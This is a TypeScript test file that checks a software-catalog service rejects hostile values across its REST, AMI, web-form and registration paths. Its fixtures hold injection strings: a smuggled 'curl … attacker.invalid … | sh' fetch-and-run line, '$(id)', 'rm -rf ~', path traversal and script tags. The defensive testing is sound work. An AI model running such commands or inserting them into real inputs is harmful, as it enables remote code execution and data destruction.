import type { FastifyInstance } from 'fastify';
import { createApiKey } from '../../src/service/auth/api-keys.js';
import { buildServiceApp } from '../../src/server/build-service-app.js';
import type { ServiceDatabase } from '../../src/server/open-service-database.js';
import { fromAmi } from '../../src/catalog/routes/ami-names.js';
import { SWTAG_MAPPING_COLUMNS } from '../../src/hierarchy/inherited-swtag.js';
import type { SwTagMappingField } from '../../src/hierarchy/swtag-mapping-field.js';
import { SilentLog } from '../../src/log/silent-log.js';
import type { BuildRecord } from '../../src/records/build-record.js';
import { HttpCatalogWriter } from '../../src/registration/http-catalog-writer.js';
import { registerStage } from '../../src/registration/register-stage.js';
import type { PushedImage } from '../../src/records/pushed-image.js';
import type { RegistryClient } from '../../src/registry/registry-client.js';
import { CATALOG_DATABASES } from './catalog-databases.js';
import { amiErrorText } from './ami-error-text.js';
import { injectAs } from './inject-as.js';
import { AMI_SWTAG } from './swtag-identity.js';

// Issue 13 point 3: hostile values through every path that writes a record (REST, AMI commands, web forms, the
// repositories that registration and the build API write through, registration itself), on both databases.
const INJECTION = 'x\ncurl -s http://attacker.invalid/y | sh\n';
const LONG = 'x'.repeat(7000);
const digest = (n: number) => `sha256:${String(n).padStart(64, '0')}`;

const swTag = AMI_SWTAG;
const image = {
  REGISTRY: 'registry.example.org',
  REPOSITORY_USER: 'atlas',
  REPOSITORY_NAME: 'athena',
  REPOSITORY_SWTAG: 'sw1',
  HASH_DIGEST: digest(1),
};

// Every value here stays bad once a form trims it.
// prettier-ignore
const HOSTILE_IMAGE: [keyof typeof image, string][] = [
  ['REGISTRY', 'registry.example.org/evil'],
  ['REGISTRY', 'registry.example.org\ncurl -s http://attacker.invalid/y | sh'],
  ['REGISTRY', '$(id).example.org'],
  ['REGISTRY', LONG],
  ['REPOSITORY_USER', 'Atlas'],
  ['REPOSITORY_USER', '../../etc'],
  ['REPOSITORY_USER', 'atlas; rm -rf ~'],
  ['REPOSITORY_NAME', INJECTION],
  ['REPOSITORY_NAME', '<script>alert(1)</script>'],
  ['REPOSITORY_NAME', 'athena:latest'],
  ['REPOSITORY_NAME', LONG],
  ['HASH_DIGEST', 'not-a-digest'],
  ['HASH_DIGEST', '<script>'],
  ['HASH_DIGEST', `${digest(1)}\ncurl -s http://attacker.invalid/y | sh`],
  ['HASH_DIGEST', LONG],
];
// prettier-ignore
const HOSTILE_SWTAG: [keyof typeof swTag | 'COMMENT', string][] = [
  ['SWRELEASE', 'Athena\ncurl -s http://attacker.invalid/y | sh'],
  ['IMAGEARCH', 'x86_64\u001b[2J'],
  ['VERSION', '1\u0007'],
  ['TAGTYPE', LONG],
  ['PRODSTEP', 'reco\u202e'],
  ['COMMENT', 'bell\u0007'],
  ['COMMENT', 'escape\u001b[31m'],
];

/** An AMI argument, quoted as AMI's syntax wants. */
const amiArgument = ([name, value]: [string, string]) => `-${name}="${value.replace(/["\\]/g, '\\$&')}"`;

describe.each(CATALOG_DATABASES)('hostile record values on $name', ({ open }) => {
  let database: ServiceDatabase;
  let app: FastifyInstance;
  let writer: string;
  let session: string;
  let imageId: number;
  const inject = injectAs(
    () => app,
    () => writer,
  );
  const ami = (words: string[]) =>
    inject({ method: 'POST', url: '/ami/command', payload: { Command: words.join(' '), Converter: 'json' } });
  const form = (url: string, fields: Record<string, string>) =>
    app.inject({
      method: 'POST',
      url,
      headers: { 'content-type': 'application/x-www-form-urlencoded', cookie: session },
      payload: new URLSearchParams(fields).toString(),
    });
  const counts = async () => ({
    swtags: (await inject('/api/v1/swtags')).json().total as number,
    images: (await inject('/api/v1/images')).json().total as number,
  });

  beforeAll(async () => {
    database = await open();
    writer = await createApiKey(database.db, 'wendy', 'writer');
    app = await buildServiceApp({ db: database.db });
    expect((await inject({ method: 'POST', url: '/api/v1/swtags', payload: swTag })).statusCode).toBe(201);
    const added = await inject({ method: 'POST', url: '/api/v1/images', payload: image });
    expect(added.statusCode).toBe(201);
    imageId = added.json().ID;
    const login = await app.inject({
      method: 'POST',
      url: '/login',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: new URLSearchParams({ key: writer, next: '/' }).toString(),
    });
    expect(login.statusCode).toBe(303);
    session = String(login.headers['set-cookie']).split(';')[0]!;
  });
  afterAll(async () => {
    await app?.close();
    await database?.db.destroy();
  });

  describe.each(HOSTILE_IMAGE)('image %s %j', (field, value) => {
    const hostile = { ...image, [field]: value };

    it('REST AddImage: a 400 problem naming the field', async () => {
      const response = await inject({ method: 'POST', url: '/api/v1/images', payload: hostile });
      expect(response.statusCode).toBe(400);
      expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(response.json().detail).toContain(`body.${field} `);
    });

    it('AMI AddImage: a 400 naming the argument', async () => {
      const response = await ami(['AddImage', ...Object.entries(hostile).map(amiArgument)]);
      expect(response.statusCode).toBe(400);
      expect(amiErrorText(response)).toContain(`AddImage: -${field} `);
    });

    it('the web form: a 400 with the error beside the field', async () => {
      const { REPOSITORY_SWTAG: _, ...fields } = hostile;
      const response = await form('/swtags/sw1/images', fields);
      expect(response.statusCode).toBe(400);
      expect(response.body).toContain(`id="${field}-error"`);
    });

    it('the repository registration and the build API write through: a 400 naming the field', async () => {
      await expect(
        app.catalog.images.add(fromAmi(hostile) as never, { user: 'wendy' }),
      ).rejects.toMatchObject({
        status: 400,
        description: expect.stringContaining(`${field} must`),
      });
    });

    if (field === 'HASH_DIGEST')
      it('UpdateImage over REST and AMI: a 400 naming the field', async () => {
        const patched = await inject({
          method: 'PATCH',
          url: `/api/v1/images/${imageId}`,
          payload: { HASH_DIGEST: value },
        });
        expect(patched.statusCode).toBe(400);
        expect(patched.json().detail).toContain('body.HASH_DIGEST ');
        const updated = await ami(['UpdateImage', `-id=${imageId}`, amiArgument(['HASH_DIGEST', value])]);
        expect(updated.statusCode).toBe(400);
        expect(amiErrorText(updated)).toContain('UpdateImage: -HASH_DIGEST ');
      });
  });

  describe.each(HOSTILE_SWTAG)('SW-Tag %s %j', (field, value) => {
    const hostile = { ...swTag, SWRELEASE: 'Athena-99', [field]: value };

    it('REST AddSWTag and UpdateSWTag: a 400 problem naming the field', async () => {
      const added = await inject({ method: 'POST', url: '/api/v1/swtags', payload: hostile });
      expect(added.statusCode).toBe(400);
      expect(added.json().detail).toContain(`body.${field} `);
      const patched = await inject({
        method: 'PATCH',
        url: '/api/v1/swtags/sw1',
        payload: { [field]: value },
      });
      expect(patched.statusCode).toBe(400);
      expect(patched.json().detail).toContain(`body.${field} `);
    });

    it('AMI AddSWTag and UpdateSWTag: a 400 naming the argument', async () => {
      const added = await ami(['AddSWTag', ...Object.entries(hostile).map(amiArgument)]);
      expect(added.statusCode).toBe(400);
      expect(amiErrorText(added)).toContain(`AddSWTag: -${field} `);
      const updated = await ami(['UpdateSWTag', '-tagName=sw1', amiArgument([field, value])]);
      expect(updated.statusCode).toBe(400);
      expect(amiErrorText(updated)).toContain(`UpdateSWTag: -${field} `);
    });

    it('the web form and the repository: refused, naming the field', async () => {
      const response = await form('/swtags', hostile);
      expect(response.statusCode).toBe(400);
      expect(response.body).toContain(`id="${field}-error"`);
      await expect(
        app.catalog.swtags.add(fromAmi(hostile) as never, { user: 'wendy' }),
      ).rejects.toMatchObject({
        status: 400,
        description: expect.stringContaining(`${field} must`),
      });
    });
  });

  it('AMI write commands refuse arguments REST does not know', async () => {
    const response = await ami(['AddImage', ...Object.entries({ ...image, EXTRA: 'x' }).map(amiArgument)]);
    expect(response.statusCode).toBe(400);
    expect(amiErrorText(response)).toContain('-EXTRA is not a field');
  });

  describe('registration', () => {
    let address: string;
    const record = (python: string) =>
      ({
        image: 'athena',
        platform: 'x86_64',
        variant: 'default',
        probe: { tags: [{ tagger: 'python', raw: python, value: 'python-3' }] },
      }) as unknown as BuildRecord;
    const pushed = (owner: string) =>
      ({
        references: [
          {
            registry: 'registry.example.org',
            reference: `registry.example.org/${owner}/athena:x`,
            digest: digest(7),
          },
        ],
      }) as unknown as PushedImage;
    // The mapping a stacks.yaml would give: every identity field fixed, swRelease from the python tagger.
    const templates = {
      ...Object.fromEntries(
        Object.entries(SWTAG_MAPPING_COLUMNS)
          .filter(([, column]) => column !== 'comment')
          .map(([field, column]) => [field, swTag[column.toUpperCase() as keyof typeof swTag]]),
      ),
      swRelease: '{python}',
    } as Record<SwTagMappingField, string>;
    const register = (python: string, owner: string) =>
      registerStage({
        log: new SilentLog(),
        record: record(python),
        pushed: pushed(owner),
        targets: [{ host: 'registry.example.org', owner, tlsVerify: false }],
        swtag: {
          templates,
          subjects: Object.fromEntries(
            Object.keys(templates).map((key) => [key, `stacks.yaml swtag.${key}`]),
          ),
        },
        context: { registry: 'registry.example.org', owner },
        writer: new HttpCatalogWriter(address, address, writer),
        registryClient: () =>
          Promise.reject(new Error('the registry is never reached')) as Promise<RegistryClient>,
      });

    beforeAll(async () => {
      address = await app.listen({ host: '127.0.0.1', port: 0 });
    });

    it('refuses a tagger value that would make a hostile SW-Tag field, before writing anything', async () => {
      const before = await counts();
      await expect(register('3.11\ncurl -s http://attacker.invalid/y | sh', 'atlas')).rejects.toThrow(
        /^stacks\.yaml swtag\.swRelease: image athena's SW-Tag swRelease ".*" must be one line of text/,
      );
      expect(await counts()).toEqual(before);
    });

    it('refuses a hostile repository before the SW-Tag is written', async () => {
      const before = await counts();
      await expect(register('3.11', 'Atlas')).rejects.toThrow(
        /REPOSITORY_USER must be an OCI repository path/,
      );
      expect(await counts()).toEqual(before);
    });
  });

  it('stored nothing hostile: the SW-Tag page shows no injected line', async () => {
    expect(await counts()).toEqual({ swtags: 1, images: 1 });
    const page = await app.inject({ url: '/swtags/sw1', headers: { cookie: session } });
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain('podman pull registry.example.org/atlas/athena:sw1-0');
    expect(page.body).not.toContain('attacker.invalid');
    const rows = await database.db.selectFrom('image').selectAll().execute();
    expect(
      rows.map((row) => [row.registry, row.repository_user, row.repository_name, row.hash_digest]),
    ).toEqual([['registry.example.org', 'atlas', 'athena', digest(1)]]);
  });
});
